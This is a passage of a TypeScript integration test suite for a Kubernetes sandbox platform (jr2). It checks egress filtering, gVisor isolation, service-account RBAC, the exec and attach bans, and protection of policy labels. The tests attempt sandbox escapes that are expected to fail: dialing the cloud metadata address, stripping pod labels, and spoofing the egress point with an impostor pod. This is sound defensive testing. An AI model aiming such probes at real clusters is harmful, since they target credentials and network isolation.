          getJson(["events", "-n", SANDBOXES, "--field-selector", `involvedObject.name=${theirs},reason=EgressRefused`])
            .items as Obj[]
        ).filter((e) => e.message.includes(PUBLIC.allowedIp));
        return items.length ? items : undefined;
      });
      expect(events.map((e: Obj) => [e.type, e.count ?? 1, e.involvedObject.kind])).toEqual([
        ["Warning", 1, "Sandbox"],
      ]);
      // Each replica counts what it decided (decision 0076): the installation's count is their sum.
      const pods = getJson(["pods", "-n", SYSTEM, "-l", "app.kubernetes.io/name=jr2-egress"]).items as Obj[];
      const metrics = (
        await Promise.all(pods.map(async (p) => (await fetch(`http://${p.status.podIP}:9091/metrics`)).text()))
      ).join("\n");
      /** Every series of the counter with this decision, summed (refusals carry a reason too). */
      const count = (decision: string) =>
        [...metrics.matchAll(new RegExp(`^jr2_egress_connections_total\\{decision="${decision}"[^}]*\\} (\\d+)`, "gm"))]
          .map((m) => Number(m[1]))
          .reduce((a, b) => a + b, 0);
      expect(count("refused")).toBeGreaterThanOrEqual(3);
      expect(count("allowed")).toBeGreaterThanOrEqual(1);
      // The log and the Events carry hosts, never a key or a Stand-in.
      const said = JSON.stringify(entries) + JSON.stringify(events) + metrics;
      expect(said).not.toContain(SCRIPTED_KEY);
      expect(said).not.toMatch(/jr2-stand-in-/);
    }, 60_000);

    test("an Agent's turn: its bash is refused one host and reaches the other; the provider got the real key, the public host none", async () => {
      // The turn ran above ("an Agent's turn with a Menu pick"): its bash's answer is in what the
      // model was sent next.
      const contents = modelRequests(modelNs).map((r) => r.last?.content ?? "");
      const bash = contents.find((c) => c.includes("refused.git")) ?? contents.find((c) => c.includes("403")) ?? "";
      expect(bash).toMatch(/403/);
      const reached = host()
        .http()
        .filter((r) => r.path.startsWith("/reached.git"));
      expect(reached.length).toBeGreaterThan(0);
      expect(
        host()
          .http()
          .some((r) => r.path.startsWith("/refused.git")),
      ).toBe(false);
      // No key and no Stand-in ever reached the public host: it got no Authorization at all.
      for (const r of host().http()) expect(r.authorization ?? "").toBe("");
      for (const r of modelRequests(modelNs)) expect(r.keyed).toBe(true);
    });
  });

  // Decision 0055: a create names the gVisor RuntimeClass the pod config allows; everything of the
  // deployed installation works the same in it, and it really runs in gVisor's sentry.
  describe("a workspace under gVisor, through the deployed Orchestrator", () => {
    const client = () => new OrchestratorClient({ url: ORCHESTRATOR_URL, token: TOKEN });
    const exec = (ws: string, container: string, ...command: string[]) =>
      kubectl(["exec", "-n", SANDBOXES, ws, "-c", container, "--", ...command]);
    let ws = "";

    beforeAll(async () => {
      ws = (
        await client().createWorkspace({
          image: SANDBOX_IMAGE,
          branch: "feature/gvisor",
          repos: [{ slot: "app", url: remoteUrl }],
          userImage: USER_IMAGE,
          effector: {},
          runtimeClassName: GVISOR,
        })
      ).name;
      const v = await client().waitReady(ws, { timeoutMs: 300_000 });
      expect({ state: v.state, failure: v.failure }).toEqual({ state: "ready", failure: undefined });
    }, 330_000);
    afterAll(async () => {
      if (ws) await client().deleteWorkspace(ws);
    });

    test("its pod runs every seat in the sentry on the real node, attached from the DaemonSet's cache", () => {
      const pod = getJson(["pod", "-n", SANDBOXES, ws]);
      expect([pod.spec.runtimeClassName, pod.spec.nodeName]).toEqual([GVISOR, node.name]);
      expect((pod.status.containerStatuses as Obj[]).map((c) => [c.name, c.ready]).sort()).toEqual([
        ["custodian", true],
        ["effector", true],
        ["harness", true],
        ["user", true],
      ]);
      // This machine is the node: under runc the Harness would read this kernel's version.
      const version = exec(ws, "harness", "cat", "/proc/version").stdout;
      expect(version).not.toBe(readFileSync("/proc/version", "utf8"));
      expect(exec(ws, "harness", "dmesg").stdout).toContain("Starting gVisor");
      const log = exec(ws, "harness", "git", "-c", "safe.directory=*", "-C", "/work/app/default", "log", "--format=%s");
      expect(log.stdout.trim()).toBe("first widget");
    });

    test("its egress is the egress point's: the allowed host through the proxy, a raw address dropped", () => {
      const through = exec(ws, "harness", "node", "-e", CONNECT_JS, `${ALLOWED}:80`).stdout.trim();
      expect(through).toMatch(/^200 HTTP\/1\.1 200/);
      expect(exec(ws, "harness", "node", "-e", CONNECT_JS, `${OTHER}:80`).stdout.trim()).toBe("403");
      expect(exec(ws, "harness", "node", "-e", DIAL_JS(PUBLIC.allowedIp, 80)).stdout.trim()).toBe("dropped");
    });

    test("an Agent's turn with a Menu pick in a gVisor workspace, the model given the held key", async () => {
      const actor = createActor(proposeMachine, {
        input: {
          client: client(),
          workspace: {
            image: SANDBOX_IMAGE,
            branch: "feature/gvisor-turn",
            repos: [{ slot: "app", url: remoteUrl }],
            runtimeClassName: GVISOR,
          },
          message: "write change.txt, then propose it",
          readyTimeoutMs: 300_000,
          log: () => undefined,
        },
      });
      actor.start();
      expectProposedTurn(await toPromise(actor), modelNs, "deployed");
    }, 420_000);
  });

  // The Machine's Effects, run by jr2's Effector (decisions 0070-0072), under the cluster's runtime and gVisor.
  for (const runtimeClassName of [undefined, GVISOR])
    describeEffects({
      client: () => new OrchestratorClient({ url: ORCHESTRATOR_URL, token: TOKEN }),
      publicHost: () => publicHost!,
      sandboxImage: SANDBOX_IMAGE,
      namespace: SANDBOXES,
      system: SYSTEM,
      forgeRoot: () => forgeRoot,
      forgeUrl,
      forgeOrigin: FORGE_ORIGIN,
      forgeToken: FORGE_TOKEN,
      signingKey: () => SIGNING_KEY,
      nodeName: node.name,
      runtimeClassName,
      // The Orchestrator reads its pod config at boot: a changed one is a patch and a restart.
      podConfig: async (o) => {
        kubectlOk([
          "patch",
          "configmap",
          "jr2-orchestrator-pod",
          "-n",
          SYSTEM,
          "--type",
          "merge",
          "-p",
          JSON.stringify({ data: { "pod.yaml": JSON.stringify(podConfig(undefined, o)) } }),
        ]);
        kubectlOk(["rollout", "restart", "deployment/jr2-orchestrator", "-n", SYSTEM]);
        await available(SYSTEM, "jr2-orchestrator");
      },
    });

  // Decision 0054: the Harness speaks each provider's own API with pi-ai's client; the Custodian puts
  // the key in the one header that API reads. The Orchestrator reads its pod config at boot, so
  // each kind is its model's config and a restart.
  describe("each native provider API, through the Custodian, the provider given the held key", () => {
    for (const n of NATIVE)
      test(`${n.kind}: an Agent's turn with a Menu pick, the key in ${n.keyHeader}, the usage in the turn's events`, async () => {
        kubectlOk([
          "patch",
          "configmap",
          "jr2-orchestrator-pod",
          "-n",
          SYSTEM,
          "--type",
          "merge",
          "-p",
          JSON.stringify({ data: { "pod.yaml": JSON.stringify(podConfig(n)) } }),
        ]);
        kubectlOk(["rollout", "restart", "deployment/jr2-orchestrator", "-n", SYSTEM]);
        await available(SYSTEM, "jr2-orchestrator");
        const events: StreamEvent[] = [];
        const actor = createActor(proposeMachine, {
          input: {
            client: new OrchestratorClient({ url: ORCHESTRATOR_URL, token: TOKEN }),
            workspace: { image: SANDBOX_IMAGE, branch: `feature/${n.kind}`, repos: [{ slot: "app", url: remoteUrl }] },
            message: "write change.txt, then propose it",
            readyTimeoutMs: 300_000,
            log: () => undefined,
            onEvent: (e) => events.push(e),
          },
        });
        actor.start();
        expectProposedTurn(await toPromise(actor), n.namespace, n.word);
        // The model saw its own API (its path) and the held key in that API's header, every time.
        const requests = modelRequests(n.namespace);
        expect(new Set(requests.map((r) => `${r.wire} ${r.keyHeader} ${r.keyed}`))).toEqual(
          new Set([`${n.wire} ${n.keyHeader} true`]),
        );
        // Each model call's tokens, as the provider counted them, reached the turn's events.
        const usage = events.filter((e) => e.kind === "usage");
        expect(usage.length).toBeGreaterThan(0);
        for (const u of usage) {
          expect(u).toMatchObject({ model: n.id });
          expect(u.input).toBeGreaterThan(0);
          expect(u.output).toBeGreaterThan(0);
        }
      }, 600_000);
  });

  describe("each service account's RBAC, as kubectl auth can-i --list reads it", () => {
    /** `kubectl auth can-i --list` as the service account: resource -> verbs. */
    const rights = (namespace: string, sa: string, where: string) => {
      const out = kubectlOk(["auth", "can-i", "--list", `--as=system:serviceaccount:${namespace}:${sa}`, "-n", where]);
      const table: Record<string, string[]> = {};
      for (const line of out.trim().split("\n").slice(1)) {
        const m = /^(\S+)\s+(?:\[[^\]]*\]\s+)*\[([^\]]*)\]\s*$/.exec(line.trim());
        if (m) table[m[1]] = [...(table[m[1]] ?? []), ...m[2].split(/\s+/).filter(Boolean)];
      }
      return table;
    };
    const can = (namespace: string, sa: string, verb: string, resource: string, where: string) =>
      kubectl([
        "auth",
        "can-i",
        verb,
        resource,
        `--as=system:serviceaccount:${namespace}:${sa}`,
        "-n",
        where,
      ]).stdout.trim();

    test("the Orchestrator: Sandboxes and their Secrets, ConfigMaps and Services in the Sandbox namespace, no pods, nothing elsewhere", () => {
      const r = rights(SYSTEM, "jr2-orchestrator", SANDBOXES);
      expect(r["sandboxes.core.jr2.dev"]).toEqual(
        expect.arrayContaining(["get", "list", "watch", "create", "patch", "delete"]),
      );
      for (const [verb, resource] of [
        ["create", "pods"],
        ["list", "secrets"],
        ["create", "deployments"],
      ])
        expect([verb, resource, can(SYSTEM, "jr2-orchestrator", verb, resource, SANDBOXES)]).toEqual([
          verb,
          resource,
          "no",
        ]);
      expect(can(SYSTEM, "jr2-orchestrator", "get", "secrets", "default")).toBe("no");
      // Not its own namespace either, where its signing key and tokens are.
      expect(can(SYSTEM, "jr2-orchestrator", "get", "secrets", SYSTEM)).toBe("no");
      expect(can(SYSTEM, "jr2-orchestrator", "create", "sandboxes.core.jr2.dev", "default")).toBe("no");
    });

    test("the cache agent: Repos and their status, Sandboxes read, one Secret at a time, pods listed; nothing written but Repo status", () => {
      const r = rights(SYSTEM, "jr2-cache-agent", SYSTEM);
      expect(r["repos.core.jr2.dev/status"]).toEqual(expect.arrayContaining(["get", "patch"]));
      for (const [verb, resource] of [
        ["list", "secrets"],
        ["create", "pods"],
        ["patch", "sandboxes.core.jr2.dev"],
        ["delete", "repos.core.jr2.dev"],
      ])
        expect([verb, resource, can(SYSTEM, "jr2-cache-agent", verb, resource, "default")]).toEqual([
          verb,
          resource,
          "no",
        ]);
    });

    test("the egress point: pods and Sandboxes read and Events written where Sandboxes live; no Secret, nothing else", () => {
      const r = rights(SYSTEM, "jr2-egress", SANDBOXES);
      expect(r["pods"]?.sort()).toEqual(["get", "list", "watch"]);
      expect(r["sandboxes.core.jr2.dev"]?.sort()).toEqual(["get", "list", "watch"]);
      for (const [verb, resource, where] of [
        ["get", "secrets", SANDBOXES],
        ["patch", "sandboxes.core.jr2.dev", SANDBOXES],
        ["create", "pods", SANDBOXES],
        ["list", "pods", "default"],
        ["get", "secrets", SYSTEM],
      ])
        expect([verb, resource, where, can(SYSTEM, "jr2-egress", verb, resource, where)]).toEqual([
          verb,
          resource,
          where,
          "no",
        ]);
    });

    test("the module: what its reconcilers and webhooks need, not every verb on everything", () => {
      const r = rights(PEPR_NS, MODULE, "default");
      expect(r["*.*"]).toBeUndefined();
      // Pods and Services are written where Sandboxes live alone (decision 0047); pods are read
      // everywhere (its watch, and the exec guard's get, decision 0048).
      expect(r["pods"]?.sort()).toEqual(["get", "list", "watch"]);
      expect(rights(PEPR_NS, MODULE, SANDBOXES)["pods"]?.sort()).toEqual(["create", "get", "list", "watch"]);
      expect(r["sandboxes.core.jr2.dev/status"]).toEqual(expect.arrayContaining(["patch"]));
      for (const [verb, resource] of [
        ["get", "secrets"],
        ["create", "deployments"],
        ["create", "clusterrolebindings"],
        ["delete", "namespaces"],
        // The garbage collector deletes a Sandbox's pod and Service, not the module.
        ["delete", "pods"],
        ["patch", "pods"],
      ])
        expect([verb, resource, can(PEPR_NS, MODULE, verb, resource, "default")]).toEqual([verb, resource, "no"]);
    });

    // An exec, attach or port-forward is a `create` on the pod's subresource (a POST; and from 1.35,
    // with AuthorizePodWebsocketUpgradeCreatePermission on by default, a websocket's GET is asked
    // `create` too, after the `get` its method maps to: both are asked here). `can-i exec pods` asked
    // a verb no rule grants, so it said "no" whatever the roles held.
    test("no service account of the installation may exec into, attach to or port-forward a pod, anywhere it runs", async () => {
      /** Each ask's answer for `account` ("namespace:name"), by SubjectAccessReviews in one kubectl
       * call, the account stated as `kubectl auth can-i --as` states it: its user and its groups. */
      const answers = (account: string, asks: Array<{ verb: string; sub: string; ns: string }>) => {
        const [home, name] = account.split(":");
        const reviews = asks.map((a) => ({
          apiVersion: "authorization.k8s.io/v1",
          kind: "SubjectAccessReview",
          spec: {
            user: `system:serviceaccount:${home}:${name}`,
            groups: ["system:serviceaccounts", `system:serviceaccounts:${home}`, "system:authenticated"],
            resourceAttributes: { namespace: a.ns, verb: a.verb, resource: "pods", subresource: a.sub },
          },
        }));
        // One line per review, in the order given: its status.allowed.
        const allowed = kubectlOk(
          ["create", "-o", 'jsonpath={.status.allowed}{"\\n"}', "-f", "-"],
          JSON.stringify({ apiVersion: "v1", kind: "List", items: reviews }),
        )
          .trim()
          .split("\n");
        expect(allowed.length).toBe(asks.length);
        return asks.map((a, i) => `${a.verb} pods/${a.sub} in ${a.ns}: ${allowed[i] === "true" ? "yes" : "no"}`);
      };
      const asksIn = (namespaces: string[]) =>
        namespaces.flatMap((ns) =>
          ["exec", "attach", "portforward"].flatMap((sub) => ["create", "get"].map((verb) => ({ verb, sub, ns }))),
        );
      /** Every service account the installation's pods run as (admission, watcher, Orchestrator,
       * cache agent, egress point), and the one its Sandbox pods run as (their namespace's default). */
      const accounts = new Set<string>([`${SANDBOXES}:default`]);
      for (const ns of [PEPR_NS, SYSTEM])
        for (const p of getJson(["pods", "-n", ns]).items as Obj[])
          accounts.add(`${ns}:${p.spec.serviceAccountName ?? "default"}`);
      // Those five at least; any other account a pod there runs as is asked the same.
      expect([...accounts]).toEqual(
        expect.arrayContaining([
          `${PEPR_NS}:${MODULE}`,
          `${SYSTEM}:jr2-cache-agent`,
          `${SYSTEM}:jr2-egress`,
          `${SYSTEM}:jr2-orchestrator`,
          `${SANDBOXES}:default`,
        ]),
      );
      const everywhere = asksIn([SANDBOXES, SYSTEM, PEPR_NS, "default"]);
      for (const account of accounts)
        expect([account, answers(account, everywhere).filter((a) => !a.endsWith(": no"))]).toEqual([account, []]);
      // The control: an account granted exec and attach is answered "yes" by the same asks (and "no"
      // by the old one), so a role that gave one of the installation's accounts the same fails above.
      const granted = `jr2-can-exec-${suffix}`;
      apply(
        { apiVersion: "v1", kind: "ServiceAccount", metadata: { name: granted, namespace: modelNs } },
        {
          apiVersion: "rbac.authorization.k8s.io/v1",
          kind: "Role",
          metadata: { name: granted, namespace: modelNs },
          rules: [{ apiGroups: [""], resources: ["pods/exec", "pods/attach"], verbs: ["create", "get"] }],
        },
        {
          apiVersion: "rbac.authorization.k8s.io/v1",
          kind: "RoleBinding",
          metadata: { name: granted, namespace: modelNs },
          roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: granted },
          subjects: [{ kind: "ServiceAccount", name: granted, namespace: modelNs }],
        },
      );
      const control = asksIn([modelNs]).filter((a) => a.sub !== "portforward");
      await until(`the Role of ${granted} in force`, 10_000, () => {
        const said = answers(`${modelNs}:${granted}`, control);
        return said.every((a) => a.endsWith(": yes")) ? said : undefined;
      });
      expect(
        kubectl([
          "auth",
          "can-i",
          "exec",
          "pods",
          `--as=system:serviceaccount:${modelNs}:${granted}`,
          "-n",
          modelNs,
        ]).stdout.trim(),
      ).toBe("no");
    });

    test("nothing runs as root but the cache agent, whose cache root is a root-owned hostPath", () => {
      for (const ns of [PEPR_NS, SYSTEM])
        for (const p of getJson(["pods", "-n", ns]).items as Obj[]) {
          if (p.spec.nodeName !== node.name) continue;
          for (const c of p.spec.containers as Obj[]) {
            const uid = c.securityContext?.runAsUser ?? p.spec.securityContext?.runAsUser;
            const nonRoot = c.securityContext?.runAsNonRoot ?? p.spec.securityContext?.runAsNonRoot;
            const root = uid === 0 || (uid === undefined && nonRoot !== true);
            expect([p.metadata.name, c.name, root]).toEqual([p.metadata.name, c.name, c.name === "cache-agent"]);
          }
        }
    });
  });
});

// Decision 0067, on the real node with the deployed module: a Sandbox pod keeps its jr2 labels (its
// policies select it by the one the pod guard holds), so it stays policed; and a pod named as the
// egress point in a namespace a tenant labelled part of jr2 is no peer of the Sandbox's.
describe("a Sandbox pod's labels and its policies' peers, deployed (decision 0067)", () => {
  const client = () => new OrchestratorClient({ url: ORCHESTRATOR_URL, token: TOKEN });
  const PROBE_IMAGE = need("JR2_NODE_TEST_IMAGE");
  const impostorNs = `jr2-impostor-${suffix}`;
  let ws = "";
  let impostorIp = "";
  const inHarness = (js: string) =>
    kubectl(["exec", "-n", SANDBOXES, ws, "-c", "harness", "--", "node", "-e", js]).stdout.trim();

  beforeAll(async () => {
    ws = (await client().createWorkspace({ image: SANDBOX_IMAGE, branch: "feature/labels" })).name;
    // A tenant's namespace, labelled as jr2's, with a pod named as the egress point on its port.
    kubectlOk(["create", "namespace", impostorNs]);
    kubectlOk(["label", "namespace", impostorNs, "app.kubernetes.io/part-of=jr2"]);
    await until(`ServiceAccount ${impostorNs}/default`, 30_000, () =>
      kubectl(["get", "sa", "default", "-n", impostorNs]).status === 0 ? true : undefined,
    );
    apply(probePod(node, PROBE_IMAGE, "jr2-egress", impostorNs, { "app.kubernetes.io/name": "jr2-egress" }, 3128));
    const v = await client().waitReady(ws, { timeoutMs: 300_000 });
    expect({ state: v.state, failure: v.failure }).toEqual({ state: "ready", failure: undefined });
    impostorIp = await until("the impostor egress point Ready", 120_000, () => {
      const p = getJson(["pod", "-n", impostorNs, "jr2-egress"]);
      return ready(p) ? (p.status.podIP as string) : undefined;
    });
  }, 420_000);

  afterAll(async () => {
    if (ws) await client().deleteWorkspace(ws);
    kubectl(["delete", "namespace", impostorNs, "--wait=false"]);
  });

  test("removing its managed-by label, on the pod or through pods/status, is refused; both policies still select it", () => {
    const label = kubectl(["label", "pod", "-n", SANDBOXES, ws, "app.kubernetes.io/managed-by-"]);
    expect(label.status).not.toBe(0);
    expect(label.stderr).toContain("metadata.labels[app.kubernetes.io/managed-by]: only the jr2 operator sets");
    const status = kubectl([
      "patch",
      "pod",
      "-n",
      SANDBOXES,
      ws,
      "--subresource=status",
      "--type=merge",
      "-p",
      JSON.stringify({ metadata: { labels: { "sandbox.jr2.dev/name": null, "app.kubernetes.io/managed-by": null } } }),
    ]);
    expect(status.status).not.toBe(0);
    expect(status.stderr).toContain("only the jr2 operator");
    expect(getJson(["pod", "-n", SANDBOXES, ws]).metadata.labels).toMatchObject({
      "app.kubernetes.io/managed-by": "jr2-operator",
      "sandbox.jr2.dev/name": ws,
    });
    const policies = getJson(["networkpolicy", "-n", SANDBOXES]).items as Obj[];
    expect(policies.map((p) => p.metadata.name).sort()).toEqual(["jr2-sandbox-egress", "jr2-sandbox-ingress"]);
    for (const p of policies) {
      const selected = kubectlOk([
        "get",
        "pods",
        "-n",
        SANDBOXES,
        "-l",
        selectorString(p.spec.podSelector),
        "-o",
        "name",
      ]);
      expect([p.metadata.name, selected.split("\n")]).toEqual([p.metadata.name, expect.arrayContaining([`pod/${ws}`])]);
    }
  });

  test("from its Harness a public address, the metadata address and a lookup still fail", () => {
    // The stand-in public host listens there: only the policy keeps the Harness from it.
    expect(inHarness(DIAL_JS(PUBLIC.allowedIp, 80))).toBe("dropped");
    expect(inHarness(DIAL_JS("169.254.169.254", 80))).not.toBe("connected");
    expect(inHarness(LOOKUP_JS("metadata.google.internal"))).not.toBe("resolved");
    expect(inHarness(LOOKUP_JS("kubernetes.default.svc.cluster.local"))).not.toBe("resolved");
  });

  test("a pod named jr2-egress in a namespace labelled part of jr2 is no peer: the Harness's connection is dropped", () => {
    // It serves: a pod the Sandbox policy does not cover reaches it.
    expect(
      kubectl(["exec", "-n", impostorNs, "jr2-egress", "--", "/jr2-probe", "get", `http://${impostorIp}:3128/healthz`])
        .status,
    ).toBe(0);
    expect(inHarness(DIAL_JS(impostorIp, 3128))).toBe("dropped");
  });
});
